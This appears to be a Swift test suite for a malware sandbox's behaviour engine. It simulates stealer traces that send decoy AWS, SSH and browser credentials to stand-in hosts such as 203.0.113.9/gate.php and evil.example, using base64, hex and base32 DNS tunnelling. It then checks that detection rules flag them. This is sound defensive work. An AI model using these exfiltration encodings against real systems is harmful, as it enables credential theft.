import Foundation
import PetriTestSupport
import Testing
import PetriModel
@testable import PetriAnalysis

@Suite struct BehaviourCanaryTests {
    static let token = "pc7hq2m9xk4vz8r1tb6yw3ns0f"
    static let canary = Canary(token: token, file: "/home/user/.aws/credentials", kind: "aws")
    static let fileText = "[default]\naws_access_key_id = AKIA4J7QX2M5ZK3RTY8P\naws_secret_access_key = \(token)\n"

    func hits(_ build: (inout Trace) -> Void) -> [CanaryHit] {
        var t = Trace(sampleName: "stealer")
        t.report.canaries = [Self.canary]
        build(&t)
        return CanaryTracker(canaries: t.report.canaries).scan(t.report)
    }

    @Test func rawInHTTPBody() throws {
        let h = hits { $0.http("POST", "http://203.0.113.9/gate.php", body: Self.fileText) }
        let hit = try #require(h.first)
        #expect(hit.encoding == .raw && hit.channel == "http_body" && hit.destination == "http://203.0.113.9/gate.php")
        #expect(hit.canary.file == "/home/user/.aws/credentials" && hit.pid == 100 && hit.image == "stealer")
    }

    /// The whole file base64-encoded, at every alignment of the token inside it.
    @Test(arguments: 0..<3)
    func base64AtEveryAlignment(_ shift: Int) throws {
        let text = String(repeating: "#", count: shift) + Self.fileText
        let b64 = Data(text.utf8).base64EncodedString()
        let h = hits { $0.http("POST", "http://203.0.113.9/u", body: "data=" + b64) }
        #expect(h.first?.encoding == .base64)
        let urlSafe = b64.replacingOccurrences(of: "+", with: "-").replacingOccurrences(of: "/", with: "_")
        #expect(hits { $0.http("GET", "http://203.0.113.9/u?d=" + urlSafe) }.first?.encoding == .base64)
    }

    @Test func hexInDNSLabels() throws {
        let hex = Data(Self.token.utf8).map { String(format: "%02x", $0) }.joined()
        // Split over labels as DNS tunnels do (63-byte label limit).
        let name = hex.prefix(30) + "." + hex.dropFirst(30) + ".x.evil.example"
        let h = hits { $0.dns(String(name)) }
        let hit = try #require(h.first)
        #expect(hit.encoding == .hex && hit.channel == "dns")
        #expect(hits { $0.dns(String(name).uppercased()) }.first?.encoding == .hex)
    }

    @Test(arguments: 0..<5)
    func base32InDNSAtEveryAlignment(_ shift: Int) throws {
        let data = Array(repeating: UInt8(ascii: "#"), count: shift) + Array(Self.fileText.utf8)
        let b32 = Self.base32(data)
        let labels = stride(from: 0, to: b32.count, by: 60).map { i in
            String(b32[b32.index(b32.startIndex, offsetBy: i)..<b32.index(b32.startIndex, offsetBy: min(i + 60, b32.count))])
        }
        let h = hits { $0.dns(labels.joined(separator: ".") + ".t.evil.example") }
        #expect(h.first?.encoding == .base32)
    }

    static func base32(_ bytes: [UInt8]) -> String {
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
        var out = "", buffer = 0, bits = 0
        for byte in bytes {
            buffer = buffer << 8 | Int(byte); bits += 8
            while bits >= 5 { out.append(alphabet[(buffer >> (bits - 5)) & 31]); bits -= 5 }
        }
        if bits > 0 { out.append(alphabet[(buffer << (5 - bits)) & 31]) }
        return out
    }

    @Test func urlEncodedInQuery() throws {
        let encoded = Self.token.map { "%" + String(format: "%02X", $0.asciiValue!) }.joined()
        let h = hits { $0.http("GET", "http://203.0.113.9/c?k=" + encoded) }
        #expect(h.first?.encoding == .url && h.first?.channel == "http_url")
    }

    @Test func rawInConnectionPreviewAndSendto() throws {
        let viaConn = hits { t in
            var c = ConnectionRecord(id: "t1", proto: "tcp", ip: "203.0.113.9", port: 4444, service: "raw", timeNs: 5)
            c.preview = "KEY " + Self.token; c.pid = 100
            t.report.network.connections.append(c)
        }
        #expect(viaConn.first?.channel == "connection" && viaConn.first?.destination == "tcp 203.0.113.9:4444")
        let viaSend = hits { t in
            t.sys("sendto", ["family": .string("AF_INET"), "address": .string("203.0.113.9:53"), "preview": .string("\\x00\\x01" + Self.token)])
        }
        #expect(viaSend.first?.channel == "sendto" && viaSend.first?.destination == "203.0.113.9:53")
    }

    @Test func savedConnectionDataBeyondThePreview() {
        var t = Trace(sampleName: "stealer")
        t.report.canaries = [Self.canary]
        var blob = Data(repeating: 0x41, count: 100_000)
        blob.append(contentsOf: Array(Self.fileText.utf8))
        blob.append(contentsOf: [0xff, 0x00, 0x80])
        let outbound = [OutboundData(channel: "connection_data", destination: "tcp 203.0.113.9:443", pid: 100, data: blob)]
        #expect(CanaryTracker(canaries: t.report.canaries).scan(t.report).isEmpty)
        let h = CanaryTracker(canaries: t.report.canaries).scan(t.report, outbound: outbound)
        #expect(h.first?.channel == "connection_data" && h.first?.encoding == .raw)
        BehaviourAnalysis.apply(to: &t.report, ruleSet: BuiltIn.rules, outbound: outbound)
        #expect(t.report.behaviours.contains { $0.id == "exfiltrates-decoy-credentials" })
    }

    @Test func noFalsePositiveOnOtherData() {
        #expect(hits { $0.http("POST", "http://203.0.113.9/u", body: "hello " + String(Self.token.prefix(12))) }.isEmpty)
        let otherB64 = Data("something else entirely, not the token".utf8).base64EncodedString()
        #expect(hits { $0.http("POST", "http://203.0.113.9/u", body: otherB64) }.isEmpty)
    }

    @Test func confirmedExfiltrationFindingNamesFileProcessAndDestination() throws {
        var t = Trace(sampleName: "stealer")
        t.report.canaries = [Self.canary]
        t.open("/home/user/.aws/credentials")
        t.connect("203.0.113.9:80")
        t.http("POST", "http://203.0.113.9/gate.php", body: Data(Self.fileText.utf8).base64EncodedString())
        BehaviourAnalysis.apply(to: &t.report, ruleSet: BuiltIn.rules)
        let m = try #require(t.report.behaviours.first { $0.id == "exfiltrates-decoy-credentials" })
        #expect(m.severity == 5 && m.attack.contains("T1041"))
        #expect(m.evidence.files == ["/home/user/.aws/credentials"])
        #expect(m.evidence.network == ["http://203.0.113.9/gate.php"])
        let note = try #require(m.evidence.notes.first)
        #expect(note.contains("/home/user/.aws/credentials") && note.contains("base64") && note.contains("pid 100 (stealer)"))
        #expect(t.report.verdict == .malicious)
    }
}

@Suite struct BehaviourDecoyTests {
    @Test func seederPlantsFreshTokensAndRecordsThem() throws {
        let fm = FileManager.default
        let a = fm.temporaryDirectory.appendingPathComponent("petri-decoy-\(UUID().uuidString)").path
        let b = fm.temporaryDirectory.appendingPathComponent("petri-decoy-\(UUID().uuidString)").path
        defer { try? fm.removeItem(atPath: a); try? fm.removeItem(atPath: b) }
        let seeder = DecoySeeder(templateDirectory: Paths.decoys)
        let first = try seeder.seed(into: a)
        let second = try seeder.seed(into: b)
        let kinds = Set(first.map(\.kind))
        #expect(kinds.isSuperset(of: ["firefox", "chrome", "skype", "ssh", "aws", "wallet", "document"]))
        #expect(first.contains { $0.file == "/home/user/.ssh/id_rsa" && $0.kind == "ssh" })
        #expect(first.contains { $0.file == "/home/user/.config/google-chrome/Default/Login Data" })
        // Fresh and unique per file and per run.
        #expect(Set(first.map(\.token)).count == first.count)
        #expect(Set(first.map(\.token)).isDisjoint(with: Set(second.map(\.token))))
        for c in first {
            let host = a + c.file.dropFirst("/home/user".count)
            let text = try String(contentsOfFile: host, encoding: .utf8)
            #expect(text.contains(c.token))
            #expect(!text.contains(DecoySeeder.placeholder))
        }
        let perms = try fm.attributesOfItem(atPath: a + "/.ssh/id_rsa")[.posixPermissions] as? NSNumber
        #expect(perms?.intValue == 0o600)
        // Files without a placeholder are copied as they are.
        #expect(fm.contentsEqual(atPath: a + "/Documents/budget-2026.csv", andPath: Paths.decoys + "/Documents/budget-2026.csv"))
    }

    @Test func decoyPathsAreCoveredByTheCredentialRules() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("petri-decoy-\(UUID().uuidString)").path
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let canaries = try DecoySeeder(templateDirectory: Paths.decoys).seed(into: dir)
        let expected: [String: String] = ["firefox": "reads-browser-credentials", "chrome": "reads-browser-credentials",
                                          "skype": "reads-messenger-data", "ssh": "reads-ssh-keys", "aws": "reads-cloud-credentials",
                                          "wallet": "reads-crypto-wallets"]
        for c in canaries {
            guard let rule = expected[c.kind] else { continue }
            var t = Trace()
            t.open(c.file)
            #expect(BuiltIn.matchIDs(t.report).contains(rule), "reading \(c.file) should match \(rule)")
        }
    }
}

@Suite struct BehaviourScenarioTests {
    /// A benign program: builds files in its cwd, lists a directory, runs /bin/ls, reads /etc/passwd via getpwuid.
    @Test func benignTraceScoresBenign() {
        var t = Trace(sampleName: "builder")
        for lib in ["/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6"] {
            t.open(lib)
            t.sys("mmap", ["prot": .string("PROT_READ|PROT_EXEC"), "fd": .int(3), "fd_path": .string(lib)])
        }
        t.sys("clone3", [:], action: .denied)   // glibc's clone3 probe before falling back to clone
        t.sys("clone", ["clone_flags": .string("CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD")])
        t.sys("mkdir", ["path": .string("/home/user/Downloads/out"), "mode": .string("0755")])
        for f in ["out/a.o", "out/b.o", "out/report.txt"] { t.write("/home/user/Downloads/" + f) }
        t.file("/home/user/Downloads/out/a.o", type: .data)
        t.file("/home/user/Downloads/out/b.o", type: .data)
        t.file("/home/user/Downloads/out/report.txt", type: .data)
        t.open("/home/user/Downloads", "O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY")
        t.sys("clone", ["clone_flags": .string("CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD")])
        t.child(101, image: "builder")
        t.exec("/bin/ls", argv: ["ls", "-l", "/home/user/Downloads/out"], pid: 101)
        t.open("/etc/ld.so.cache", pid: 101)
        t.open("/etc/nsswitch.conf")
        t.open("/etc/passwd")
        t.sys("exit_group", ["code": .int(0)])
        var report = t.report
        BehaviourAnalysis.apply(to: &report, ruleSet: BuiltIn.rules)
        #expect(report.verdict == .benign)
        #expect((report.score?.value ?? 99) < 3)
        #expect(report.behaviours.allSatisfy { $0.severity <= 1 }, "\(report.behaviours.map { "\($0.id) sev \($0.severity)" })")
        #expect(report.behaviours.map(\.id).contains("user-discovery"))
    }

    /// The issue's example: drops and runs a stealer, pulls code, spreads over a messenger, packed, anti-debug.
    @Test func stealerScenarioIsMaliciousAndExplained() throws {
        var t = Trace(sampleName: "invoice.pdf.elf")
        t.report.sample.staticInfo = StaticInfo(facts: ["packed", "packer:upx"])
        t.report.canaries = [Canary(token: "pcq1w2e3r4t5y6u7i8o9p0a1s2", file: "/home/user/.mozilla/firefox/k3v9x2qa.default-release/logins.json", kind: "firefox")]
        t.sys("ptrace", ["request": .string("PTRACE_TRACEME")], action: .emulated)
        t.connect("198.51.100.5:80")
        t.write("/tmp/.cache/kworker")
        t.file("/tmp/.cache/kworker", type: .elf)
        t.child(200, image: "invoice.pdf.elf")
        t.exec("/tmp/.cache/kworker", argv: ["[kworker/0:1]"], pid: 200)
        t.open("/home/user/.mozilla/firefox/k3v9x2qa.default-release/logins.json", pid: 200)
        t.open("/home/user/.Skype/alex.miller/contacts.json", pid: 200)
        t.http("POST", "http://203.0.113.9/gate", body: "u=alex&p=pcq1w2e3r4t5y6u7i8o9p0a1s2", pid: 200)
        for c in ["bob.chen", "carol.ross", "dave.k", "erin.w", "frank.o"] {
            t.http("POST", "http://api.skype.example/v1/messages", body: "{\"to\":\"\(c)\",\"msg\":\"lol http://photos.example/img_0042.scr\"}", pid: 200)
        }
        var report = t.report
        BehaviourAnalysis.apply(to: &report, ruleSet: BuiltIn.rules)
        let ids = Set(report.behaviours.map(\.id))
        for id in ["downloads-and-executes", "executes-dropped-file", "exfiltrates-decoy-credentials", "reads-browser-credentials",
                   "messenger-link-spread", "packed-sample", "anti-debug-ptrace-traceme", "masquerade-kernel-thread", "hidden-files"] {
            #expect(ids.contains(id), "missing \(id)")
        }
        #expect(report.verdict == .malicious)
        #expect(report.score!.value > 9.9 && report.score!.value <= 10)
        let total = report.behaviours.map(\.contribution).reduce(0, +)
        #expect(abs(total - report.score!.value) < 0.01 * Double(report.behaviours.count))
        let spread = try #require(report.behaviours.first { $0.id == "messenger-link-spread" })
        #expect(spread.evidence.notes.first?.contains("http://photos.example/img_0042.scr") == true)

        // ATT&CK Navigator layer.
        let layer = try JSONSerialization.jsonObject(with: AttackLayer.json(for: report)) as! [String: Any]
        #expect(layer["domain"] as? String == "enterprise-attack")
        let techniques = layer["techniques"] as! [[String: Any]]
        let byID = Dictionary(uniqueKeysWithValues: techniques.map { ($0["techniqueID"] as! String, $0) })
        #expect(byID["T1534"]?["score"] as? Int == 4)
        #expect(byID["T1041"]?["score"] as? Int == 5)
        #expect((byID["T1105"]?["comment"] as? String)?.contains("downloads-and-executes") == true)
        #expect(techniques.map { $0["techniqueID"] as! String } == techniques.map { $0["techniqueID"] as! String }.sorted())
    }

    @Test func linkSpreadOverRawSends() {
        var t = Trace()
        for c in ["bob", "carol", "dave", "erin", "frank"] {
            t.sys("sendto", ["family": .string("AF_INET"), "address": .string("203.0.113.20:5222"),
                             "preview": .string("<message to='\(c)@chat.example'><body>hey http://x.example/p.apk</body></message>")])
        }
        #expect(BuiltIn.matchIDs(t.report).contains("messenger-link-spread"))
    }

    @Test func stratumOverARawConnectionIsMining() {
        var t = Trace()
        var c = ConnectionRecord(id: "t9", proto: "tcp", ip: "203.0.113.30", port: 3333, service: "raw", timeNs: 9)
        c.preview = #"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Abc","pass":"x","agent":"XMRig/6.21.0"}}"#
        t.report.network.connections.append(c)
        #expect(BuiltIn.matchIDs(t.report).contains("cryptocurrency-mining"))
        t.report.network.connections[0].preview = "GET / HTTP/1.1"
        #expect(!BuiltIn.matchIDs(t.report).contains("cryptocurrency-mining"))
    }

    @Test func droppedPEStartedThroughWineIsExecutionOfADroppedFile() {
        var t = Trace(sampleName: "setup.exe")
        var f = FileChange(path: "/home/user/.wine/drive_c/users/user/AppData/Local/Temp/upd.exe", change: .created, type: .pe)
        f.windowsPath = #"C:\users\user\AppData\Local\Temp\upd.exe"#
        t.report.files.append(f)
        #expect(!BuiltIn.matchIDs(t.report).contains("executes-dropped-file"))
        t.exec("/usr/bin/wine", argv: ["wine", #"c:\Users\user\AppData\Local\Temp\UPD.EXE"#, "/silent"])
        #expect(BuiltIn.matchIDs(t.report).contains("executes-dropped-file"))
    }

    @Test func wineLoaderMappingsDoNotCountAsSelfModifyingCode() {
        var t = Trace(sampleName: "setup.exe")
        t.sys("mmap", ["prot": .string("PROT_READ|PROT_WRITE|PROT_EXEC"), "fd": .int(5),
                       "fd_path": .string("/usr/lib/x86_64-linux-gnu/wine/x86_64-windows/kernel32.dll")])
        t.sys("mprotect", ["prot": .string("PROT_READ|PROT_WRITE|PROT_EXEC")], image: "wine64-preloader")
        t.sys("mprotect", ["prot": .string("PROT_READ|PROT_EXEC")], runner: true)
        let ids = BuiltIn.matchIDs(t.report)
        #expect(!ids.contains("writable-executable-memory") && !ids.contains("mprotect-to-exec"))
        t.sys("mprotect", ["prot": .string("PROT_READ|PROT_WRITE|PROT_EXEC")])
        #expect(BuiltIn.matchIDs(t.report).contains("writable-executable-memory"))
    }

    /// A guard against quadratic blow-ups (sequences over repeated writes and execs), not a benchmark:
    /// the bound is loose because the test machine is shared; a quadratic engine takes minutes here.
    @Test func evaluationScalesToLargeTraces() {
        var t = Trace()
        for i in 0..<10_000 {
            t.open("/home/user/Downloads/data/\(i % 500).bin", i % 3 == 0 ? "O_WRONLY|O_CREAT" : "O_RDONLY")
            if i % 50 == 0 { t.exec("/usr/bin/true", pid: 100) }
        }
        let start = Date()
        _ = BehaviourEngine(ruleSet: BuiltIn.rules).evaluate(t.report)
        #expect(Date().timeIntervalSince(start) < 60)
    }
}

/// Real reports recorded by the sandbox, rescored with the built-in rules.
@Suite struct BehaviourRecordedReportTests {
    @Test func demoSampleIsMaliciousForTheRightReasons() throws {
        var report = try ReportJSON.decode(Repo.recordedReport("demo-sample"))
        BehaviourAnalysis.apply(to: &report, ruleSet: BuiltIn.rules)
        let ids = Set(report.behaviours.map(\.id))
        #expect(ids == ["contacts-remote-host", "drops-executable", "executes-dropped-file", "hidden-files",
                        "persistence-xdg-autostart", "runs-shell-commands", "system-information-discovery", "user-discovery"])
        #expect(report.verdict == .malicious)
        let exec = try #require(report.behaviours.first { $0.id == "executes-dropped-file" })
        #expect(exec.evidence.events == [50, 124])
        #expect(exec.evidence.files == ["/tmp/.hidden/updater"])
        let autostart = try #require(report.behaviours.first { $0.id == "persistence-xdg-autostart" })
        #expect(autostart.evidence.files.contains("/home/user/.config/autostart/updater.desktop"))
    }

    @Test func helloScriptIsBenignWithNothingMatched() throws {
        var report = try ReportJSON.decode(Repo.recordedReport("hello-script"))
        BehaviourAnalysis.apply(to: &report, ruleSet: BuiltIn.rules)
        #expect(report.behaviours.isEmpty)
        #expect(report.verdict == .benign && report.score?.value == 0)
    }
}
